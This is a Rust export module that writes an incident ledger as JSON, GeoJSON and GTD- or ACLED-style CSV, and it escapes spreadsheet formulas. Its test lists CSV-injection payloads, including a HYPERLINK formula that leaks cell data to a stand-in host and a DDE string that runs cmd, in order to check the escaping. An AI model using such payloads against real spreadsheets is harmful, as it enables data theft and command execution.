//! Exports of the ledger and the documents: JSON Lines in the schema of the export contract
//! (`shared/eval/README.md`, schema v1), and the ledger in the column sets analysts already load
//! elsewhere — the Global Terrorism Database's CSV, ACLED's CSV — and as GeoJSON points.
//!
//! The CSV mappings keep annalist's meaning where the target has no slot for it: a range is
//! written as its low (the conservative figure both datasets code) with the high in an extra
//! column, and a date interval as its first day with GTD's `approxdate` or an extra end column.
//!
//! Cells come from article text, so the CSV exports neutralise formulas (OWASP's rule: a cell
//! beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, unless it is
//! a plain number such as a negative longitude) and quote every field holding a comma, a quote
//! or a line break (the `csv` crate's writer).

use annalist_knowledge::Gazetteer;
use annalist_model::{AttributionStatus, CountRange, EventType, Field, Incident, Target, Weapon};
use annalist_store::Store;
use anyhow::Result;
use serde_json::{json, Value};
use std::io::Write;

fn count(c: &Option<CountRange>) -> Value {
    match c {
        Some(c) => json!({"low": c.low, "high": c.high}),
        None => Value::Null,
    }
}

/// One incident as an export-contract object.
pub fn incident_json(inc: &Incident) -> Value {
    // the contract's fields only (weapon and target claims are annalist's own, see the CSVs;
    // the attribution ledger is shown by `annalist show` and the workbench)
    let evidence: Vec<Value> = inc
        .claims
        .iter()
        .filter(|c| !matches!(c.field, Field::Weapon | Field::Target | Field::Attribution | Field::Name))
        .map(|c| json!({"field": c.field.as_str(), "document": c.document, "quote": c.quote, "start": c.start, "end": c.end}))
        .collect();
    json!({
        "id": inc.id,
        "type": inc.event_type.as_str(),
        "date_start": inc.date_start.map(|d| d.to_string()),
        "date_end": inc.date_end.map(|d| d.to_string()),
        "country": inc.country,
        "place": inc.place,
        "lat": inc.lat,
        "lon": inc.lon,
        "perpetrators": inc.perpetrators.iter().map(|p| json!({"name": p.name, "status": p.status.as_str()})).collect::<Vec<_>>(),
        "killed": count(&inc.killed),
        "wounded": count(&inc.wounded),
        "suicide": inc.suicide,
        "attackers": inc.attackers,
        "sources": inc.sources,
        "evidence": evidence,
    })
}

pub fn incidents_jsonl(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let incidents = store.incidents()?;
    for inc in &incidents {
        serde_json::to_writer(&mut *out, &incident_json(inc))?;
        out.write_all(b"\n")?;
    }
    Ok(incidents.len())
}

pub fn documents_jsonl(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let docs = store.documents()?;
    for d in &docs {
        let v = json!({
            "id": d.id,
            "title": d.title,
            "published": d.published.map(|p| p.to_string()),
            "duplicate_of": d.duplicate_of,
            "text": d.text,
        });
        serde_json::to_writer(&mut *out, &v)?;
        out.write_all(b"\n")?;
    }
    Ok(docs.len())
}

fn country_name(iso2: Option<&str>) -> String {
    let Some(iso2) = iso2 else { return String::new() };
    Gazetteer::builtin().country(iso2).map_or_else(|| iso2.to_string(), |c| c.name.clone())
}

/// The place below the country, or nothing when the incident is placed only in its country.
fn city(inc: &Incident) -> String {
    match &inc.place {
        Some(p) if *p != country_name(inc.country.as_deref()) => p.clone(),
        _ => String::new(),
    }
}

fn opt<T: ToString>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_default()
}

/// The perpetrator a dataset's single actor column takes: the strongest tie (claimed, then
/// attributed, then suspected); an allegation alone is not a perpetrator there.
fn lead_perpetrator(inc: &Incident) -> Option<&str> {
    inc.perpetrators
        .iter()
        .filter(|p| {
            matches!(
                p.status,
                AttributionStatus::Claimed | AttributionStatus::Attributed | AttributionStatus::Suspected
            )
        })
        .min_by_key(|p| p.status)
        .map(|p| p.name.as_str())
}

/// The sentence that first reports the incident (its earliest type claim).
fn summary(inc: &Incident) -> String {
    let first =
        inc.claims.iter().filter(|c| c.field == Field::Type).min_by_key(|c| (c.published, &c.document, c.start));
    first.map(|c| c.quote.clone()).unwrap_or_default()
}

fn outlets(inc: &Incident) -> String {
    let mut names: Vec<&str> = inc.claims.iter().filter_map(|c| c.outlet.as_deref()).collect();
    names.sort();
    names.dedup();
    names.join("; ")
}

/// GTD's attack type names; types GTD does not code (air strikes, arrests, foiled plots) keep
/// annalist's name so that nothing is silently recoded.
fn gtd_attack_type(t: EventType) -> &'static str {
    match t {
        EventType::Bombing => "Bombing/Explosion",
        EventType::ArmedAssault => "Armed Assault",
        EventType::Assassination => "Assassination",
        EventType::Hijacking => "Hijacking",
        EventType::HostageTaking => "Hostage Taking (Barricade Incident)",
        EventType::Kidnapping => "Hostage Taking (Kidnapping)",
        EventType::FacilityAttack => "Facility/Infrastructure Attack",
        EventType::UnarmedAssault => "Unarmed Assault",
        EventType::Unknown => "Unknown",
        other => other.as_str(),
    }
}

/// ACLED's event type and sub-event type for an annalist type.
fn acled_type(inc: &Incident) -> (&'static str, &'static str) {
    match inc.event_type {
        EventType::Bombing if inc.suicide == Some(true) => ("Explosions/Remote violence", "Suicide bomb"),
        EventType::Bombing => ("Explosions/Remote violence", "Remote explosive/landmine/IED"),
        EventType::Airstrike => ("Explosions/Remote violence", "Air/drone strike"),
        EventType::ArmedAssault | EventType::Assassination | EventType::UnarmedAssault | EventType::FacilityAttack => {
            ("Violence against civilians", "Attack")
        }
        EventType::Kidnapping | EventType::HostageTaking | EventType::Hijacking => {
            ("Violence against civilians", "Abduction/forced disappearance")
        }
        EventType::Arrest => ("Strategic developments", "Arrests"),
        EventType::FoiledPlot => ("Strategic developments", "Disrupted weapons use"),
        EventType::Unknown => ("Strategic developments", "Other"),
    }
}

const GTD_COLUMNS: [&str; 23] = [
    "eventid",
    "iyear",
    "imonth",
    "iday",
    "approxdate",
    "country_txt",
    "provstate",
    "city",
    "latitude",
    "longitude",
    "attacktype1_txt",
    "targtype1_txt",
    "gname",
    "claimed",
    "nkill",
    "nkill_high",
    "nwound",
    "nwound_high",
    "suicide",
    "nperps",
    "weaptype1_txt",
    "summary",
    "scite1",
];

/// The ledger as GTD-style CSV. A date known only to the month or year has `iday` (and
/// `imonth`) 0, as in GTD, with the interval in `approxdate`.
pub fn incidents_gtd_csv(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let incidents = store.incidents()?;
    let mut w = csv::Writer::from_writer(out);
    w.write_record(GTD_COLUMNS)?;
    for inc in &incidents {
        let (start, end) = (inc.date_start, inc.date_end.or(inc.date_start));
        let (year, month, day, approx) = match (start, end) {
            (Some(s), Some(e)) if s == e => {
                (s.format("%Y").to_string(), s.format("%-m").to_string(), s.format("%-d").to_string(), String::new())
            }
            (Some(s), Some(e)) => {
                let month = if s.format("%Y-%m").to_string() == e.format("%Y-%m").to_string() {
                    s.format("%-m").to_string()
                } else {
                    "0".into()
                };
                (s.format("%Y").to_string(), month, "0".into(), format!("{s}..{e}"))
            }
            _ => Default::default(),
        };
        let claimed = inc.perpetrators.iter().any(|p| p.status == AttributionStatus::Claimed);
        let row = [
            inc.id.clone(),
            year,
            month,
            day,
            approx,
            country_name(inc.country.as_deref()),
            String::new(),
            city(inc),
            opt(inc.lat),
            opt(inc.lon),
            gtd_attack_type(inc.event_type).to_string(),
            inc.target.map(gtd_target_type).unwrap_or_default().to_string(),
            lead_perpetrator(inc).unwrap_or("Unknown").to_string(),
            if inc.perpetrators.is_empty() { String::new() } else { (claimed as u8).to_string() },
            opt(inc.killed.map(|k| k.low)),
            opt(inc.killed.and_then(|k| k.high)),
            opt(inc.wounded.map(|k| k.low)),
            opt(inc.wounded.and_then(|k| k.high)),
            opt(inc.suicide.map(|s| s as u8)),
            opt(inc.attackers),
            inc.weapon.map(gtd_weapon_type).unwrap_or_default().to_string(),
            summary(inc),
            inc.sources.join("; "),
        ];
        w.write_record(row.iter().map(|c| spreadsheet_safe(c)))?;
    }
    w.flush()?;
    Ok(incidents.len())
}

/// `cell` as a spreadsheet reads it without running it: a leading `'` before a cell that
/// opens with a formula character (`=`, `+`, `-`, `@`, tab, CR), except a plain number.
fn spreadsheet_safe(cell: &str) -> String {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.len() < 32
        && cell.bytes().all(|b| b.is_ascii_digit() || b"+-.eE".contains(&b))
        && cell.parse::<f64>().is_ok();
    if formula && !number {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

fn gtd_weapon_type(w: Weapon) -> &'static str {
    match w {
        Weapon::Firearm => "Firearms",
        Weapon::Explosive | Weapon::Missile => "Explosives",
        Weapon::Incendiary => "Incendiary",
        Weapon::Melee => "Melee",
        Weapon::Vehicle => "Vehicle (not to include vehicle-borne explosives, i.e., car or truck bombs)",
        Weapon::Chemical => "Chemical",
    }
}

fn gtd_target_type(t: Target) -> &'static str {
    match t {
        Target::Civilians => "Private Citizens & Property",
        Target::Police => "Police",
        Target::Military => "Military",
        Target::Officials | Target::Government => "Government (General)",
        Target::Journalists => "Journalists & Media",
        Target::Worshippers | Target::ReligiousSite => "Religious Figures/Institutions",
        Target::Business => "Business",
        Target::Education => "Educational Institution",
        Target::Transport => "Transportation",
        Target::Infrastructure => "Utilities",
        Target::Diplomatic => "Government (Diplomatic)",
    }
}

const ACLED_COLUMNS: [&str; 15] = [
    "event_id_cnty",
    "event_date",
    "event_date_end",
    "event_type",
    "sub_event_type",
    "actor1",
    "country",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "fatalities",
    "notes",
    "source",
    "source_documents",
];

/// The ledger as ACLED-style CSV; `fatalities` is the conservative low, as ACLED codes it.
pub fn incidents_acled_csv(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let incidents = store.incidents()?;
    let mut w = csv::Writer::from_writer(out);
    w.write_record(ACLED_COLUMNS)?;
    for inc in &incidents {
        let (event_type, sub_event_type) = acled_type(inc);
        let row = [
            inc.id.clone(),
            opt(inc.date_start),
            opt(inc.date_end),
            event_type.to_string(),
            sub_event_type.to_string(),
            lead_perpetrator(inc).unwrap_or("Unidentified Armed Group").to_string(),
            country_name(inc.country.as_deref()),
            String::new(),
            city(inc),
            opt(inc.lat),
            opt(inc.lon),
            inc.killed.map_or_else(|| "0".to_string(), |k| k.low.to_string()),
            summary(inc),
            outlets(inc),
            inc.sources.join("; "),
        ];
        w.write_record(row.iter().map(|c| spreadsheet_safe(c)))?;
    }
    w.flush()?;
    Ok(incidents.len())
}

/// The ledger as one GeoJSON FeatureCollection; an incident without coordinates has a null
/// geometry (valid GeoJSON), so no incident is dropped.
pub fn incidents_geojson(store: &Store, out: &mut dyn Write) -> Result<usize> {
    let incidents = store.incidents()?;
    let features: Vec<Value> = incidents
        .iter()
        .map(|inc| {
            let geometry = match (inc.lon, inc.lat) {
                (Some(lon), Some(lat)) => json!({"type": "Point", "coordinates": [lon, lat]}),
                _ => Value::Null,
            };
            let mut properties = incident_json(inc);
            if let Some(p) = properties.as_object_mut() {
                p.remove("evidence");
                p.insert("country_name".into(), json!(country_name(inc.country.as_deref())));
            }
            json!({"type": "Feature", "id": inc.id, "geometry": geometry, "properties": properties})
        })
        .collect();
    serde_json::to_writer(&mut *out, &json!({"type": "FeatureCollection", "features": features}))?;
    out.write_all(b"\n")?;
    Ok(incidents.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use annalist_model::Perpetrator;

    const HOSTILE: [&str; 8] = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "a, \"quoted\"\nsecond line",
        "plain",
    ];

    fn incident(n: usize, text: &str) -> Incident {
        Incident {
            id: format!("inc_{n}"),
            event_type: EventType::Bombing,
            date_start: NaiveDate::from_ymd_opt(2024, 1, 3),
            date_end: NaiveDate::from_ymd_opt(2024, 1, 3),
            country: Some("IR".into()),
            place: Some(text.into()),
            lat: Some(30.28),
            lon: Some(-57.08),
            perpetrators: vec![Perpetrator { name: text.into(), status: AttributionStatus::Claimed }],
            killed: Some(CountRange::exact(3)),
            wounded: None,
            suicide: None,
            attackers: None,
            weapon: None,
            target: None,
            sources: vec![text.into()],
            independent_sources: 1,
            claims: Vec::new(),
            conflicts: Vec::new(),
            related: Vec::new(),
        }
    }

    use chrono::NaiveDate;

    #[test]
    fn hostile_cells_round_trip_through_both_csv_formats_neutralised() {
        let mut store = Store::in_memory().unwrap();
        let incidents: Vec<Incident> = HOSTILE.iter().enumerate().map(|(n, t)| incident(n, t)).collect();
        store.replace_incidents(&incidents).unwrap();
        type Export = fn(&Store, &mut dyn Write) -> Result<usize>;
        for (export, place_col, actor_col, lon_col) in [
            (incidents_gtd_csv as Export, "city", "gname", "longitude"),
            (incidents_acled_csv as Export, "location", "actor1", "longitude"),
        ] {
            let mut out = Vec::new();
            assert_eq!(export(&store, &mut out).unwrap(), HOSTILE.len());
            let mut reader = csv::Reader::from_reader(out.as_slice());
            let headers = reader.headers().unwrap().clone();
            let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), HOSTILE.len());
            for row in &rows {
                let n: usize = row[0].trim_start_matches("inc_").parse().unwrap();
                let text = HOSTILE[n];
                let expected = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    format!("'{text}")
                } else {
                    text.to_string()
                };
                assert_eq!(&row[col(place_col)], expected, "{row:?}");
                assert_eq!(&row[col(actor_col)], expected, "{row:?}");
                // a negative coordinate is a number, left as it is
                assert_eq!(&row[col(lon_col)], "-57.08");
                for cell in row.iter() {
                    assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
                    assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
                }
            }
        }
    }
}
